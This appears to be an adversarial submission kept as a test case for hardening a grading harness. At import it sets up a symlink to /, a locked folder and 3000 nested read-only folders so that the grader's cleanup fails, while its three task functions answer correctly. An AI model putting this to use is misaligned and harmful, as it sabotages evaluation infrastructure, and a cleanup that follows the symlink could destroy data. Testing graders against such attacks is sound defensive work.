"""Attack b01 (issue 11, finding 1): leave a working folder the grader cannot clean up.

3000 nested folders (deeper than Python's recursion limit), an unwritable folder with a file
inside, and a symlink to / for a cleanup that follows links. Before the fix, shutil.rmtree raised
RecursionError, the folder stayed, and the next session on the same uid could not set up its own.
The functions are right: the attacker itself scores full marks.
"""
import os

import numpy as np

here = os.getcwd()
os.symlink("/", "link-to-root")
os.mkdir("locked")
with open("locked/inside.txt", "w") as f:
    f.write("x")
os.chmod("locked", 0o500)
for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
os.chmod(".", 0o500)
os.chdir(here)
print("DEEP made 3000 levels")


def add(a, b):
    return a + b


def scale(x, k):
    return np.asarray(x, dtype=float) * k


def output_shape(shape):
    return tuple(shape)
